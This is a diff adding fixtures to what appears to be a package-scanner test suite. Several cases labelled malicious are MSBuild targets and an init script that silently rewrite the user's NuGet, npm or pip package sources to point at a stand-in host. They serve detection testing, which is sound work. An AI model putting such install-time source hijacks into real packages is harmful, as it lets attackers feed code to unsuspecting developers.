@@ -112,8 +112,74 @@ public static class Install
 }`),
       },
     },
+    {
+      name: 'source-of-user',
+      about: "A build puts a source into what the user's own configuration says already.",
+      level: 'malicious',
+      files: {
+        'build/Fixture.Package.targets': `<Project>
+  <PropertyGroup>
+    <_Host>$([System.String]::Join('.', 'packages', 'invalid'))</_Host>
+  </PropertyGroup>
+  <Target Name="Keep" BeforeTargets="Build" Condition="'$(ASSAY_FIXTURE_NEVER_SET)' == 'run'">
+    <PropertyGroup>
+      <_Text>$([System.IO.File]::ReadAllText('$([System.Environment]::GetFolderPath(SpecialFolder.UserProfile))/.nuget/NuGet/NuGet.Config').Replace('%3C/packageSources>', '%3Cadd key="a" value="https://$(_Host)/v3/index.json" />%3C/packageSources>'))</_Text>
+    </PropertyGroup>
+    <WriteLinesToFile File="$([System.Environment]::GetFolderPath(SpecialFolder.UserProfile))/.nuget/NuGet/NuGet.Config" Lines="$([MSBuild]::Escape('$(_Text)'))" Overwrite="true" />
+  </Target>
+</Project>
+`,
+      },
+    },
+    {
+      name: 'registry-of-user',
+      about: "A build copies settings of a package manager into the user's folder.",
+      level: 'malicious',
+      files: {
+        'build/Fixture.Package.targets': `<Project>
+  <Target Name="Keep" BeforeTargets="Build" Condition="'$(ASSAY_FIXTURE_NEVER_SET)' == 'run'">
+    <Copy SourceFiles="$(MSBuildThisFileDirectory)npm.txt" DestinationFiles="$(USERPROFILE)/.npmrc" />
+  </Target>
+</Project>
+`,
+        'build/npm.txt': 'registry=https://packages.invalid/\n',
+      },
+    },
+    {
+      name: 'source-by-command',
+      about: 'An init script makes another program ask somebody else for packages.',
+      files: {
+        'tools/init.ps1': `param($installPath)
+if ($env:ASSAY_FIXTURE_NEVER_SET -eq 'run') { pip config set global.index-url https://packages.invalid/simple }
+`,
+      },
+    },
   ],
   clean: [
+    {
+      name: 'source-of-consumer',
+      about: "A build writes the address that the consumer's project gives into its configuration.",
+      files: {
+        'build/Fixture.Package.targets': `<Project>
+  <Target Name="Keep" BeforeTargets="Build">
+    <WriteLinesToFile File="$(MSBuildProjectDirectory)/.yarnrc.yml" Lines="npmRegistryServer: $(CompanyRegistry)" Overwrite="true" />
+  </Target>
+</Project>
+`,
+      },
+    },
+    {
+      name: 'source-for-one-restore',
+      about: 'A build writes a configuration into its own folder, for one restore of a tool.',
+      files: {
+        'build/Fixture.Package.targets': `<Project>
+  <Target Name="Keep" BeforeTargets="Build">
+    <WriteLinesToFile File="$(BaseIntermediateOutputPath)tool/pip.conf" Lines="index-url = https://packages.invalid/simple" Overwrite="true" />
+  </Target>
+</Project>
+`,
+      },
+    },
     {
       name: 'reads-settings',
       about: 'Looks whether settings are there, and writes nothing.',
